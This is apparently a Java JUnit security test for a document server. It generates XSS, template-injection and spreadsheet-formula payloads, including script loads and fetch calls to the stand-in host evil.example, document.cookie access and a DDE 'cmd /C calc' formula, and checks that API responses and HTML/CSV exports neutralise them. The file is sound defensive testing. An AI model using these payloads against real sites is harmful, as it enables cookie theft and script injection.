package io.kindred.server;

import static org.assertj.core.api.Assertions.assertThat;

import io.kindred.Seeds;
import io.kindred.corpus.Prose;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/** Names, titles and texts that would like to be obeyed are data in every answer and plain text in every page. */
@ExtendWith(Seeds.class)
class HostileTextTest {
    private static final int PAYLOADS = 1000;
    private static final Set<String> FORBIDDEN =
            Set.of("img", "iframe", "object", "embed", "link", "base", "math", "a", "video", "audio", "form");

    @TempDir
    Path folder;

    /** Payloads of the shapes that are known to have worked somewhere. */
    private static String payload(Random random) {
        List<String> calls = List.of(
                "alert(1)",
                "alert`1`",
                "fetch('//evil.example')",
                "document.cookie",
                "import('//e.example')",
                "top[8680439..toString(30)](1)");
        String call = calls.get(random.nextInt(calls.size()));
        List<String> shapes = List.of(
                "<script>" + call + "</script>",
                "<ScRiPt>" + call + "</sCrIpT>",
                "<script src=//evil.example></script>",
                "<img src=x onerror=" + call + ">",
                "<svg onload=" + call + ">",
                "<svg><script>" + call + "</script></svg>",
                "<iframe src=\"javascript:" + call + "\"></iframe>",
                "<a href=\"javascript:" + call + "\">x</a>",
                "\"><script>" + call + "</script>",
                "' onmouseover='" + call + "' x='",
                "\" autofocus onfocus=\"" + call,
                "</title><script>" + call + "</script>",
                "</style><script>" + call + "</script>",
                "</script><script>" + call + "</script>",
                "<!--<img src=--><img src=x onerror=" + call + ">",
                "<details open ontoggle=" + call + ">",
                "<math><mtext><table><mglyph><style><img src=x onerror=" + call + ">",
                "{{constructor.constructor('" + call + "')()}}",
                "${" + call + "}",
                "<body onload=" + call + ">",
                "<input autofocus onfocus=" + call + ">",
                "<object data=\"data:text/html,<script>" + call + "</script>\">",
                "\\u003cscript\\u003e" + call + "\\u003c/script\\u003e",
                "&lt;script&gt;" + call + "&lt;/script&gt;",
                "\u2028\u2029<script>" + call + "</script>",
                "\u202e<script>" + call + "</script>",
                "=cmd|' /C calc'!A0" + call,
                "@SUM(1+1)*" + call,
                "-1+" + call,
                "<style>@import '//evil.example';</style>" + call);
        String shape = shapes.get(random.nextInt(shapes.size()));
        return random.nextInt(4) == 0 ? shape.replace("<", "< ".substring(0, 1 + random.nextInt(2))) : shape;
    }

    @Test
    void nothingPasses(Random random) throws IOException, InterruptedException {
        Prose prose = new Prose(random);
        List<String> payloads = new ArrayList<>();
        for (int document = 0; document < 20; document += 2) {
            StringBuilder text = new StringBuilder(prose.paragraphs(3));
            String name = payload(random).replaceAll("[/\\x00]", "").strip();
            for (int i = 0; i < PAYLOADS / 10; i++) {
                payloads.add(payload(random));
                text.append("\n\n").append(prose.sentence()).append(' ').append(payloads.get(payloads.size() - 1));
            }
            write(document + name, text.toString());
            write((document + 1) + name, text + "\n\n" + prose.paragraph());
        }
        write(
                "page.html",
                "<html><head><title>x</title></head><body><h1>" + "&lt;img src=x onerror=alert(1)&gt;" + "</h1><p>"
                        + prose.paragraphs(2) + "</p></body></html>");
        assertThat(payloads).hasSizeGreaterThanOrEqualTo(PAYLOADS);
        try (Started started = Started.on(folder)) {
            everyDocumentComesBackAsItIs(started);
            pagesShowAndDoNotObey(started);
            spreadsheetsGetNoFormulas(started);
        }
    }

    private void write(String name, String text) throws IOException {
        String begin = name.length() > 60 ? name.substring(0, 60) : name;
        Files.writeString(folder.resolve(begin + (name.endsWith(".html") ? "" : ".txt")), text);
    }

    private void everyDocumentComesBackAsItIs(Started started) throws IOException, InterruptedException {
        for (Object item :
                Description.list(started.json("/api/v1/documents?limit=500").get("items"))) {
            Map<String, Object> document = Description.map(item);
            HttpResponse<String> response = started.get("/api/v1/documents/" + document.get("id") + "/text?limit=1000");
            assertThat(response.headers().firstValue("Content-Type")).contains("application/json");
            String path = (String) document.get("path");
            assertThat(Files.exists(folder.resolve(path))).as(path).isTrue();
            if (!path.endsWith(".html")) {
                String whole = Files.readString(folder.resolve(path));
                for (Object each : Description.list(Json.object(response.body()).get("items"))) {
                    Map<String, Object> chunk = Description.map(each);
                    assertThat(chunk.get("text"))
                            .isEqualTo(whole.substring(
                                    ((Long) chunk.get("from")).intValue(), ((Long) chunk.get("to")).intValue()));
                }
            }
        }
    }

    private static void pagesShowAndDoNotObey(Started started) throws IOException, InterruptedException {
        List<?> relations = Description.list(
                started.json("/api/v1/relations?kind=version&limit=5").get("items"));
        assertThat(relations).hasSizeGreaterThan(3);
        String report = started.get("/api/v1/export/report.html").body();
        assertThat(report).contains("&lt;");
        assertNoMarkup(report, 0);
        for (String export : exports(started)) {
            String page = export.contains("?") ? export.replace("?", ".html?") : export + ".html";
            assertNoMarkup(started.get("/api/v1/export/" + page).body(), page.startsWith("compare") ? 1 : 0);
        }
        String answer = started.post("/api/v1/export/check.html?name=a.txt", asked(started))
                .body();
        assertThat(answer).contains("&lt;");
        assertNoMarkup(answer, 0);
        for (Object item : relations) {
            Map<String, Object> relation = Description.map(item);
            String query = "?left=" + relation.get("leftId") + "&right=" + relation.get("rightId");
            assertNoMarkup(started.get("/api/v1/export/compare.html" + query).body(), 1);
        }
    }

    /** A page has its own script and style, nothing that loads anything, and nothing that runs anything. */
    private static void assertNoMarkup(String page, int scripts) {
        Document document = Jsoup.parse(page);
        assertThat(document.getElementsByTag("script")).hasSize(scripts);
        assertThat(document.getElementsByTag("style")).hasSize(1);
        for (Element element : document.getAllElements()) {
            assertThat(element.normalName()).isNotIn(FORBIDDEN);
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey())
                        .doesNotStartWith("on")
                        .isNotIn("src", "href", "srcdoc", "action", "style");
            }
        }
        assertThat(page).doesNotContain("\u202e", "\u2028");
    }

    private static void spreadsheetsGetNoFormulas(Started started) throws IOException, InterruptedException {
        for (String export : exports(started)) {
            String sheet = export.contains("?") ? export.replace("?", ".csv?") : export + ".csv";
            assertNoFormulas(sheet, started.get("/api/v1/export/" + sheet));
        }
        assertNoFormulas("check", started.post("/api/v1/export/check.csv?name=a.txt", asked(started)));
    }

    private static void assertNoFormulas(String sheet, HttpResponse<String> response) {
        assertThat(response.statusCode()).as(sheet).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Disposition").orElse(""))
                .startsWith("attachment");
        List<String> lines = response.body().lines().toList();
        assertThat(lines).as(sheet).hasSizeGreaterThan(sheet.matches("(problems|decisions|topics|review).*") ? 0 : 1);
        for (String line : lines) {
            assertThat(line).as(sheet).doesNotContainPattern("(^|,)\"?[=+@]");
        }
    }

    /** What every view exports, without the ending. */
    private static List<String> exports(Started started) throws IOException, InterruptedException {
        Map<String, Object> relation = Description.map(Description.list(
                        started.json("/api/v1/relations?kind=version&limit=1").get("items"))
                .get(0));
        Object family = Description.map(
                        Description.list(started.json("/api/v1/families").get("items"))
                                .get(0))
                .get("family");
        return List.of(
                "documents",
                "relations",
                "families",
                "problems?all=true",
                "decisions",
                "review?within=1",
                "overview",
                "map",
                "topics",
                "lineage?family=" + family,
                "heatmap?family=" + family,
                "compare?left=" + relation.get("leftId") + "&right=" + relation.get("rightId"));
    }

    private static String asked(Started started) throws IOException, InterruptedException {
        Map<String, Object> first = Description.map(
                Description.list(started.json("/api/v1/documents?kin=some").get("items"))
                        .get(0));
        return Files.readString(started.folder.resolve((String) first.get("path")));
    }
}
